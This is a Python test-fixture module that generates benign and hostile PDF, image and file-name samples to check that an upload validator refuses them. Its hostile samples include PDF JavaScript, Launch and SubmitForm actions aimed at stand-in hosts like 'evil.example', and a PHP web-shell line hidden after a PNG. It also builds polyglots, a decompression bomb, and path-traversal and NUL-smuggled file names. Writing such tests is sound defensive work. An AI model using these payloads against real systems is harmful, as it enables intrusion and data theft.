"""Files for the upload tests: good PDF, JPEG and PNG files made by the libraries that make them in real life
(fpdf2, Pillow), and hostile ones made the way attackers make them (pypdf's writer for scripts, attachments and
encryption; raw bytes for object streams, escaped names, polyglots and broken structures)."""
from __future__ import annotations

import io
import struct
import zipfile
import zlib

from fpdf import FPDF
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript


def good_pdf() -> bytes:
    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("helvetica", size=12)
    pdf.cell(text="Zeugnis / Certificate - Bachelor of Nursing")
    return bytes(pdf.output())


def _image(kind: str, **options) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (40, 30), (200, 80, 40)).save(buffer, kind, **options)
    return buffer.getvalue()


def good_png() -> bytes:
    return _image("PNG")


def good_jpeg() -> bytes:
    return _image("JPEG", quality=80)


def _writer() -> PdfWriter:
    writer = PdfWriter()
    writer.append(PdfReader(io.BytesIO(good_pdf())))
    return writer


def _written(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_with_javascript() -> bytes:
    """Document-level JavaScript as Acrobat's and pypdf's writers put it (/Names /JavaScript … /JS)."""
    writer = _writer()
    writer.add_open_action(JavaScript("app.alert('hello');"))
    return _written(writer)


def pdf_encrypted() -> bytes:
    writer = _writer()
    writer.encrypt(user_password="", owner_password="owner")  # opens without a password, still encrypted
    return _written(writer)


def pdf_encrypted_with_password() -> bytes:
    writer = _writer()
    writer.encrypt(user_password="secret", owner_password="owner")
    return _written(writer)


def pdf_with_attachment() -> bytes:
    writer = _writer()
    writer.add_attachment("invoice.exe", b"MZ\x90\x00 not really a program")
    return _written(writer)


def classic_pdf(catalog_extra: str = "", extra_objects: tuple[str, ...] = ()) -> bytes:
    """A small hand-written PDF 1.4 (classic xref table) with ``catalog_extra`` in its catalog."""
    objects = [f"<< /Type /Catalog /Pages 2 0 R {catalog_extra} >>",
               "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>", *extra_objects]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode("latin-1")
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    for offset in offsets:
        out += f"{offset:010d} 00000 n \n".encode()
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


def pdf_open_action_javascript() -> bytes:
    return classic_pdf("/OpenAction 4 0 R", ("<< /S /JavaScript /JS (app.alert\\(1\\)) >>",))


def pdf_javascript_hex_escaped() -> bytes:
    """``/J#61vaScript`` and ``/J#53`` are /JavaScript and /JS to every reader."""
    return classic_pdf("/OpenAction 4 0 R", ("<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",))


def pdf_launch() -> bytes:
    return classic_pdf("/OpenAction 4 0 R", ("<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>",))


def pdf_additional_action_javascript() -> bytes:
    """JavaScript on a page-open trigger (/AA) rather than the document's /OpenAction."""
    return classic_pdf("", ("<< /S /JavaScript /JS (this.submitForm\\('http://evil'\\)) >>",)).replace(
        b"/MediaBox [0 0 595 842]", b"/MediaBox [0 0 595 842] /AA << /O 4 0 R >>")


def pdf_xfa_form() -> bytes:
    return classic_pdf("/AcroForm << /Fields [] /XFA 4 0 R >>", ("<< /Length 0 >>\nstream\n\nendstream",))


def pdf_rich_media() -> bytes:
    return classic_pdf("", ("<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>",))


def pdf_submit_form() -> bytes:
    return classic_pdf("/OpenAction 4 0 R", ("<< /S /SubmitForm /F (http://evil.example/collect) >>",))


def pdf_open_action_page_view() -> bytes:
    """A harmless /OpenAction: open at page 1, fit to width (many office programs write it)."""
    return classic_pdf("/OpenAction [3 0 R /FitH null]")


def pdf_in_object_stream(action: str) -> bytes:
    """A PDF 1.5 whose catalog and ``action`` sit in a compressed object stream, found through a compressed
    cross-reference stream: no name of either appears in the raw bytes."""
    stream_objects = {1: "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
                      2: "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                      3: "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
                      4: action}
    header, body = "", ""
    for number, text in stream_objects.items():
        header += f"{number} {len(body)} "
        body += text + "\n"
    payload = zlib.compress((header + body).encode("latin-1"))
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    objstm_offset = len(out)
    out += (f"5 0 obj\n<< /Type /ObjStm /N {len(stream_objects)} /First {len(header)} /Filter /FlateDecode "
            f"/Length {len(payload)} >>\nstream\n").encode() + payload + b"\nendstream\nendobj\n"
    xref_offset = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    rows += [struct.pack(">BIH", 2, 5, index) for index in range(len(stream_objects))]
    rows += [struct.pack(">BIH", 1, objstm_offset, 0), struct.pack(">BIH", 1, xref_offset, 0)]
    xref_data = zlib.compress(b"".join(rows))
    out += (f"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length {len(xref_data)} "
            f">>\nstream\n").encode() + xref_data + b"\nendstream\nendobj\n"
    out += f"startxref\n{xref_offset}\n%%EOF\n".encode()
    return bytes(out)


def pdf_javascript_in_object_stream() -> bytes:
    return pdf_in_object_stream("<< /S /JavaScript /JS (app.alert\\(1\\)) >>")


def pdf_launch_in_object_stream() -> bytes:
    return pdf_in_object_stream("<< /S /Launch /F (cmd.exe) >>")


def pdf_harmless_object_stream() -> bytes:
    return pdf_in_object_stream("<< /Type /Annot /Subtype /Text /Rect [0 0 10 10] >>")


def a_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("payload.html", "<script>alert(1)</script>")
    return buffer.getvalue()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb() -> bytes:
    """A valid PNG header announcing 100,000 x 100,000 pixels (a decompression bomb's promise)."""
    header = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
            + png_chunk(b"IEND", b""))


def png_bad_crc() -> bytes:
    data = bytearray(good_png())
    data[29] ^= 0xFF  # inside IHDR's CRC
    return bytes(data)


def png_with_text_after_iend() -> bytes:
    return good_png() + b"<?php system($_GET['c']); ?>"


def jpeg_with_script_comment() -> bytes:
    jpeg = good_jpeg()
    comment = b"<html><script>alert(document.cookie)</script></html>"
    return jpeg[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + jpeg[2:]


SVG = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
       b'<script>alert(1)</script></svg>')
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00" + b"\x00" * 200
GIF_JS = b"GIF89a/*\x0a\x00\x0a\x00\x00\x00\x00*/=alert(1);//" + b"\x00" * 20 + b";"


def hostile_files() -> list[tuple[str, str, bytes, str]]:
    """(test id, file name, content, a word the refusal must contain, German) — every file must be refused and
    leave nothing behind."""
    pdf, png, jpeg = good_pdf(), good_png(), good_jpeg()
    return [
        ("png-behind-pdf-name", "zeugnis.pdf", png, "passt nicht"),
        ("jpeg-behind-pdf-name", "zeugnis.pdf", jpeg, "passt nicht"),
        ("pdf-behind-png-name", "foto.png", pdf, "passt nicht"),
        ("html-behind-pdf-name", "zeugnis.pdf", HTML, "PDF-, JPEG- oder PNG"),
        ("svg-with-script", "bild.svg", SVG, "PDF-, JPEG- oder PNG"),
        ("svg-behind-png-name", "bild.png", SVG, "PDF-, JPEG- oder PNG"),
        ("html-file", "seite.html", HTML, "PDF-, JPEG- oder PNG"),
        ("exe-file", "setup.exe", EXE, "PDF-, JPEG- oder PNG"),
        ("exe-behind-pdf-name", "zeugnis.pdf", EXE, "PDF-, JPEG- oder PNG"),
        ("gif-javascript-polyglot", "bild.pdf", GIF_JS, "PDF-, JPEG- oder PNG"),
        ("zip-behind-pdf-name", "unterlagen.pdf", a_zip(), "PDF-, JPEG- oder PNG"),
        ("pdf-html-polyglot-appended", "zeugnis.pdf", pdf + HTML, "weitere Inhalte"),
        ("pdf-html-polyglot-inside", "zeugnis.pdf", pdf.replace(b"\n", b"\n%" + HTML + b"\n", 1), "weitere Inhalte"),
        ("jpeg-zip-polyglot", "foto.jpg", jpeg + a_zip(), "weitere Inhalte"),
        ("png-zip-polyglot", "foto.png", png + a_zip(), "weitere Inhalte"),
        ("jpeg-html-in-comment", "foto.jpg", jpeg_with_script_comment(), "weitere Inhalte"),
        ("png-php-after-end", "foto.png", png_with_text_after_iend(), "weitere Inhalte"),
        ("pdf-javascript-names-tree", "zeugnis.pdf", pdf_with_javascript(), "JavaScript"),
        ("pdf-javascript-open-action", "zeugnis.pdf", pdf_open_action_javascript(), "JavaScript"),
        ("pdf-javascript-hex-escaped", "zeugnis.pdf", pdf_javascript_hex_escaped(), "JavaScript"),
        ("pdf-javascript-page-trigger", "zeugnis.pdf", pdf_additional_action_javascript(), "JavaScript"),
        ("pdf-javascript-in-object-stream", "zeugnis.pdf", pdf_javascript_in_object_stream(), "JavaScript"),
        ("pdf-launch", "zeugnis.pdf", pdf_launch(), "Programme starten"),
        ("pdf-launch-in-object-stream", "zeugnis.pdf", pdf_launch_in_object_stream(), "Programme starten"),
        ("pdf-submit-form", "zeugnis.pdf", pdf_submit_form(), "Programme starten"),
        ("pdf-xfa-form", "zeugnis.pdf", pdf_xfa_form(), "JavaScript"),
        ("pdf-rich-media", "zeugnis.pdf", pdf_rich_media(), "eingebettete"),
        ("pdf-embedded-file", "zeugnis.pdf", pdf_with_attachment(), "eingebettete"),
        ("pdf-encrypted-no-password", "zeugnis.pdf", pdf_encrypted(), "verschlüsselt"),
        ("pdf-encrypted-with-password", "zeugnis.pdf", pdf_encrypted_with_password(), "verschlüsselt"),
        ("empty-file", "zeugnis.pdf", b"", "leer"),
        ("truncated-png", "foto.png", png[: len(png) - 20], "beschädigt"),
        ("truncated-jpeg", "foto.jpg", jpeg[: len(jpeg) // 2], "beschädigt"),
        ("truncated-pdf", "zeugnis.pdf", pdf[: len(pdf) // 2], "beschädigt"),
        ("png-bad-checksum", "foto.png", png_bad_crc(), "beschädigt"),
        ("png-decompression-bomb", "foto.png", png_bomb(), "beschädigt"),
        ("name-path-traversal", "../../etc/passwd", pdf, "Dateiname"),
        ("name-path-traversal-pdf", "../../../var/www/zeugnis.pdf", pdf, "Dateiname"),
        ("name-windows-path", "..\\..\\windows\\zeugnis.pdf", pdf, "Dateiname"),
        ("name-with-nul", "zeugnis.php\x00.pdf", pdf, "Dateiname"),
        ("name-right-to-left-override", "zeugnis\u202efdp.exe", pdf, "Dateiname"),
        ("name-hidden-file", ".htaccess", pdf, "Dateiname"),
        ("name-double-extension", "zeugnis.pdf.exe", pdf, "PDF-, JPEG- oder PNG"),
        ("name-php", "shell.php", pdf, "PDF-, JPEG- oder PNG"),
        ("name-drive", "C:zeugnis.pdf", pdf, "Dateiname"),
        ("name-missing", "", pdf, "Datei aus"),
    ]
